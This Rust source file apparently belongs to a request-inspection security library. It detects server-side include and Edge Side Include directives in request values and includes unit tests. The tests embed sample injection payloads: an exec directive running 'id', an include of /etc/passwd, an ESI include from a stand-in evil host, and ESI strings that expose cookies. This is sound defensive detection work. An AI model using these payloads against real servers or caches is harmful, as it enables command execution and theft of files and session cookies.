//! Directives of a page (CWE-97, CAPEC-101): server-side includes as Apache and nginx read them (`<!--#exec cmd="..." -->`)
//! and Edge Side Includes (W3C note of 2001), which a cache in front of the application carries out. Nobody writes them
//! into a parameter by accident; those who show them to each other do so in code spans.

use rasp_policy::class::Class;

use crate::ascii;
use crate::decode::Field;
use crate::detector::{Detector, Evidence, Needs, Report, Rule};
use crate::finding::Confidence::{self, Certain, High, Medium};
use crate::finding::{Part, RuleId};
use crate::mask;
use crate::reason::Reason;
use crate::xss::is_shown;

pub(crate) static DETECTOR: Detector =
    Detector { class: Class::ServerSideInclude, needs: NEEDS, inspect, rules };

const NEEDS: Needs =
    Needs { alone: b"", bytes: b"<", needles: &["<!--#", "<!-- #", "<!--  #", "<esi:", "<!--esi"] };

const COMMAND: Rule = Rule {
    id: RuleId("include-command"),
    reason: "the value is a directive that runs a command on the server",
};
const DIRECTIVE: Rule =
    Rule { id: RuleId("include-directive"), reason: "the value is a directive that the server carries out" };
const EDGE: Rule =
    Rule { id: RuleId("include-edge"), reason: "the value is a directive that a cache carries out" };

fn rules() -> Vec<Rule> {
    vec![COMMAND, DIRECTIVE, EDGE]
}

const DIRECTIVES: &[&str] = &[
    "block", "config", "echo", "elif", "else", "endif", "exec", "flastmod", "fsize", "goto", "if", "include",
    "label", "odbc", "perl", "printenv", "set",
];

const ELEMENTS: &[&str] = &[
    "assign",
    "attempt",
    "choose",
    "comment",
    "debug",
    "environment",
    "eval",
    "except",
    "function",
    "include",
    "inline",
    "invalidate",
    "otherwise",
    "remove",
    "text",
    "try",
    "vars",
    "when",
];

fn is_known(word: &[u8]) -> bool {
    let is = |name: &&str| word.eq_ignore_ascii_case(name.as_bytes());
    DIRECTIVES.iter().chain(ELEMENTS).any(is) || word.eq_ignore_ascii_case(b"esi")
}

fn inspect(field: &Field<'_>, report: &mut Report<'_>) -> Result<(), Reason> {
    report.budget().work(field.value.len())?;
    let Some((rule, confidence, start, end)) = judge(field.value, field.part) else { return Ok(()) };
    let sample = mask::sample(field.value.get(start..end).unwrap_or_default(), is_known);
    report.find(field, Evidence { rule, confidence, at: start..end, sample });
    Ok(())
}

fn judge(value: &[u8], part: Part) -> Option<(Rule, Confidence, usize, usize)> {
    let mut best: Option<(Rule, Confidence, usize, usize)> = None;
    for at in memchr::memchr_iter(b'<', value) {
        let rest = value.get(at..).unwrap_or_default();
        let Some((rule, confidence)) = directive(rest).or_else(|| element(rest)) else { continue };
        if best.is_some_and(|(_, known, ..)| confidence <= known) {
            continue;
        }
        let shown = part != Part::Path && is_shown(value, at);
        let confidence = if shown { Medium } else { confidence };
        if best.is_none_or(|(_, known, ..)| confidence > known) {
            let length = memchr::memchr(b'>', rest).map_or(rest.len(), |end| end + 1);
            best = Some((rule, confidence, at, at + length));
        }
        if confidence == Certain {
            break;
        }
    }
    best
}

/// A directive that is longer breaks off here. Otherwise each of many looks through the whole value for its end.
const LONGEST: usize = 1024;

fn word(rest: &[u8]) -> &[u8] {
    let length = rest.iter().take(16).take_while(|byte| byte.is_ascii_alphabetic()).count();
    rest.get(..length).unwrap_or_default()
}

fn directive(rest: &[u8]) -> Option<(Rule, Confidence)> {
    let rest = rest.strip_prefix(b"<!--")?;
    let blanks = rest.iter().take(4).take_while(|byte| **byte <= b' ').count();
    let rest = rest.get(blanks..)?.strip_prefix(b"#")?;
    let name = word(rest);
    let is = |known: &&&str| name.eq_ignore_ascii_case(known.as_bytes());
    let known = DIRECTIVES.iter().find(is)?;
    let after = rest.get(name.len()..)?;
    let after = after.get(..LONGEST).unwrap_or(after);
    let close = memchr::memchr(b'>', after).unwrap_or(after.len());
    let has_value = memchr::memchr(b'=', after.get(..close)?).is_some();
    match *known {
        "exec" | "perl" | "odbc" if has_value => Some((COMMAND, Certain)),
        "printenv" | "else" | "endif" => Some((DIRECTIVE, High)),
        _ if has_value => Some((DIRECTIVE, High)),
        // It breaks off.
        _ if close == after.len() && *known == "exec" => Some((COMMAND, High)),
        _ => Some((DIRECTIVE, Medium)),
    }
}

fn element(rest: &[u8]) -> Option<(Rule, Confidence)> {
    let starts = |text: &[u8]| ascii::starts(rest, text);
    if starts(b"<!--esi") {
        return Some((EDGE, High));
    }
    if !starts(b"<esi:") {
        return None;
    }
    let name = word(rest.get(5..)?);
    let known = ELEMENTS.iter().any(|known| name.eq_ignore_ascii_case(known.as_bytes()));
    Some((EDGE, if known { High } else { Medium }))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn directives_are_attacks() {
        for (value, expected) in [
            ("<!--#exec cmd=\"id\" -->", Certain),
            ("x <!--#EXEC CMD='id'--> y", Certain),
            ("<!-- #exec cmd=\"id\"", Certain),
            ("<!--#include virtual=\"/etc/passwd\" -->", High),
            ("<!--#echo var=\"DATE_LOCAL\" -->", High),
            ("<!--#printenv -->", High),
            ("<esi:include src=\"http://evil.example/\"/>", High),
            ("<esi:vars>$(HTTP_COOKIE)</esi:vars>", High),
            ("<!--esi $(HTTP_COOKIE) -->", High),
        ] {
            let found = judge(value.as_bytes(), Part::Query);
            assert_eq!(found.map(|(_, confidence, ..)| confidence), Some(expected), "{value}");
        }
    }

    #[test]
    fn comments_of_pages_and_directives_that_are_shown_are_ordinary() {
        for value in [
            "<!-- # heading -->",
            "<!--#region name-->",
            "<!-- TODO: include a picture -->",
            "<p>a<!-- exec --></p>",
            "Use the directive `<!--#exec cmd=\"id\" -->` to run a command, if you must.",
            "<essay:include/>",
        ] {
            let found = judge(value.as_bytes(), Part::Form);
            assert!(found.is_none_or(|(_, confidence, ..)| confidence < High), "{value}: {found:?}");
        }
    }
}
